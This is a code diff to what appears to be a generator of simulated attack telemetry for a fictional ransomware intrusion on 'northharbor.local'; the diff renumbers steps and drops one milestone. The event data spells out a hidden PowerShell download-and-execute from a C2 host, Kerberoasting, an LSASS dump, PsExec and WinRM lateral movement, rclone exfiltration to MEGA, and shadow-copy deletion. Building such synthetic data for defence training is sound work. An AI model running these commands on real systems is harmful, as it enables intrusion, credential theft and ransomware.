@@ -181,12 +181,12 @@ def _steps() -> tuple[Step, ...]:
           implant_cmd(30, "nltest /dclist:northharbor.local"),
           implant_cmd(70, 'net group "Domain Admins" /domain'),
           implant_cmd(110, "ipconfig /all")),
-        S("H03", "2024-03-05 15:05", "NH-WS014", "persistence: scheduled task OneDriveUpdateCore",
+        S("H04", "2024-03-05 15:05", "NH-WS014", "persistence: scheduled task OneDriveUpdateCore",
           implant_cmd(0, 'schtasks /create /tn "OneDriveUpdateCore" /tr "rundll32.exe '
                       f'{LOADER},InitW" /sc daily /st 09:00 /f'),
           TaskCreate("NH-WS014", 1.5, "\\OneDriveUpdateCore", "rundll32.exe", f"{LOADER},InitW",
                      VICTIM, run_as=f"{NB}\\m.ortega")),
-        S("H04", "2024-03-08 16:20", "NH-WS014",
+        S("H05", "2024-03-08 16:20", "NH-WS014",
           "Kerberoasting svc_backup and svc_sql (RC4 service tickets)",
           Proc("NH-WS014", 0, POWERSHELL, "powershell.exe -nop -w hidden -c \"IEX (New-Object "
                f"Net.WebClient).DownloadString('https://{C2_NAME}/r.ps1'); Invoke-Kerberoast "
@@ -197,7 +197,7 @@ def _steps() -> tuple[Step, ...]:
                  warning=True),
           Kerberos("NH-DC01", 4, VICTIM, ("svc_backup", "svc_sql"), IPS["NH-WS014"]),
           FileWrite("NH-WS014", 8, "C:\\Users\\Public\\k.txt", POWERSHELL, VICTIM)),
-        S("H05", "2024-03-13 16:02", "NH-FS01",
+        S("H06", "2024-03-13 16:02", "NH-FS01",
           "PsExec to the file server with the cracked svc_backup password",
           FileWrite("NH-WS014", -30, PSEXEC_TMP, RUNDLL, VICTIM),
           ExplicitCred("NH-WS014", -1, VICTIM, ROAST, "NH-FS01.northharbor.local",
@@ -205,7 +205,7 @@ def _steps() -> tuple[Step, ...]:
           psexec("NH-WS014", "NH-FS01", 0, user=ROAST, src_ip=IPS["NH-WS014"],
                  dst_ip=IPS["NH-FS01"], cmd="cmd /c whoami & ipconfig", tool=PSEXEC_TMP,
                  parent=RUNDLL)),
-        S("H06", "2024-03-13 16:20", "NH-FS01",
+        S("H07", "2024-03-13 16:20", "NH-FS01",
           "LSASS dumped with comsvcs on NH-FS01: adm.tlinde credentials",
           psexec("NH-WS014", "NH-FS01", 0, user=ROAST, src_ip=IPS["NH-WS014"],
                  dst_ip=IPS["NH-FS01"], cmd="cmd /c rundll32.exe C:\\Windows\\System32\\"
@@ -216,14 +216,14 @@ def _steps() -> tuple[Step, ...]:
           ShareFile("NH-FS01", 40, ROAST, IPS["NH-WS014"], "ADMIN$", "\\??\\C:\\Windows",
                     "Temp\\fs.dmp", "0x120089", connect=False),
           FileDelete("NH-FS01", 80, "C:\\Windows\\Temp\\fs.dmp", CMD, SYSTEM)),
-        S("H07", "2024-03-19 03:10", "NH-SQL01",
+        S("H08", "2024-03-19 03:10", "NH-SQL01",
           "WinRM to the TOS database server as domain admin adm.tlinde",
           ExplicitCred("NH-WS014", -2, VICTIM, DA, "NH-SQL01.northharbor.local", POWERSHELL,
                        IPS["NH-SQL01"]),
           winrm("NH-WS014", "NH-SQL01", 0, user=DA, src_ip=IPS["NH-WS014"],
                 dst_ip=IPS["NH-SQL01"], script="whoami; Get-PSDrive -PSProvider FileSystem",
                 native=("whoami /groups",))),
-        S("H08", "2024-03-19 03:25", "NH-SQL01", "TOS manifests exported with sqlcmd",
+        S("H09", "2024-03-19 03:25", "NH-SQL01", "TOS manifests exported with sqlcmd",
           winrm("NH-WS014", "NH-SQL01", 0, user=DA, src_ip=IPS["NH-WS014"],
                 dst_ip=IPS["NH-SQL01"],
                 script="sqlcmd -S localhost -E -Q \"SELECT * FROM TOS.dbo.Manifests\" -s \",\" "
@@ -233,7 +233,7 @@ def _steps() -> tuple[Step, ...]:
           FileWrite("NH-SQL01", 12, "C:\\ProgramData\\tos_manifests.csv",
                     "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\"
                     "SQLCMD.EXE", DA)),
-        S("H09", "2024-03-19 03:40", "NH-SQL01", "7-Zip archive with password (p.7z)",
+        S("H10", "2024-03-19 03:40", "NH-SQL01", "7-Zip archive with password (p.7z)",
           FileWrite("NH-SQL01", -20, "C:\\ProgramData\\7z.exe", S32 + "wsmprovhost.exe", DA),
           winrm("NH-WS014", "NH-SQL01", 0, user=DA, src_ip=IPS["NH-WS014"],
                 dst_ip=IPS["NH-SQL01"],
@@ -242,7 +242,7 @@ def _steps() -> tuple[Step, ...]:
                 native=("C:\\ProgramData\\7z.exe a -t7z -pH4rb0r!24 -mhe=on "
                         "C:\\ProgramData\\p.7z C:\\ProgramData\\tos_manifests.csv",)),
           FileWrite("NH-SQL01", 15, "C:\\ProgramData\\p.7z", "C:\\ProgramData\\7z.exe", DA)),
-        S("H10", "2024-03-20 06:15", "NH-SQL01", "rclone copy of p.7z to MEGA",
+        S("H11", "2024-03-20 06:15", "NH-SQL01", "rclone copy of p.7z to MEGA",
           FileWrite("NH-SQL01", -30, "C:\\ProgramData\\rclone.exe", S32 + "wsmprovhost.exe", DA),
           FileWrite("NH-SQL01", -25, "C:\\Users\\adm.tlinde\\.config\\rclone\\rclone.conf",
                     S32 + "wsmprovhost.exe", DA),
@@ -258,7 +258,7 @@ def _steps() -> tuple[Step, ...]:
           Connect("NH-SQL01", 6, "C:\\ProgramData\\rclone.exe", DA, MEGA_STORE, 443,
                   "gfs208n103.userstorage.mega.co.nz", count=8, spread=20.0),
           exfil=("NH-SQL01",)),
-        S("H11", "2024-03-26 02:30", "NH-TOS01",
+        S("H12", "2024-03-26 02:30", "NH-TOS01",
           "scheduled task SvcHealth (PowerShell from C:\\ProgramData) over WinRM",
           winrm("NH-WS014", "NH-TOS01", 0, user=DA, src_ip=IPS["NH-WS014"],
                 dst_ip=IPS["NH-TOS01"],
@@ -272,10 +272,10 @@ def _steps() -> tuple[Step, ...]:
           TaskCreate("NH-TOS01", 4, "\\Microsoft\\Windows\\Maintenance\\SvcHealth",
                      "powershell.exe", "-nop -w hidden -ep bypass -f "
                      "C:\\ProgramData\\Microsoft\\svchealth.ps1", DA)),
-        Step("H12", ts("2024-03-26 14:30"), "NH-TOS01",
+        Step("H13", ts("2024-03-26 14:30"), "NH-TOS01",
              "SvcHealth task beacons twice a day", _task_runs("2024-03-26 14:30",
                                                               "2024-04-05 12:00")),
-        S("H13", "2024-04-02 07:05", "NH-FS01",
+        S("H14", "2024-04-02 07:05", "NH-FS01",
           "encryptor pushed with PsExec as adm.tlinde: shadows deleted, shares encrypted",
           ShareFile("NH-FS01", -40, DA, IPS["NH-WS014"], "C$", "\\??\\C:\\",
                     "ProgramData\\svchelper.exe", "0x2"),
@@ -285,7 +285,7 @@ def _steps() -> tuple[Step, ...]:
                  "D:\\Shares --note README_RESTORE.txt", tool=PSEXEC_TMP, parent=RUNDLL,
                  src_pid_tag=7312),
           _encrypt_fs(8), impact=("NH-FS01",)),
-        Step("H14", ts("2024-03-04 15:12"), "NH-WS014", "implant beacons (every ~6 h)",
+        Step("H03", ts("2024-03-04 15:12"), "NH-WS014", "implant beacons (every ~6 h)",
              _beacons("2024-03-04 15:12", "2024-04-05 13:00", 6.0)),
     )
 
@@ -322,7 +322,6 @@ def _milestones() -> tuple[Milestone, ...]:
                       AccountChange("NH-DC01", 40, 4724, f"{NB}\\svc_sql", sec),
                       AccountChange("NH-DC01", 60, 4724, f"{NB}\\krbtgt", sec),
                   )),
-        Milestone("R-WS014", ts("2024-04-06 15:00"), "rebuild", "NH-WS014 reimaged", "NH-WS014"),
     )
 
 
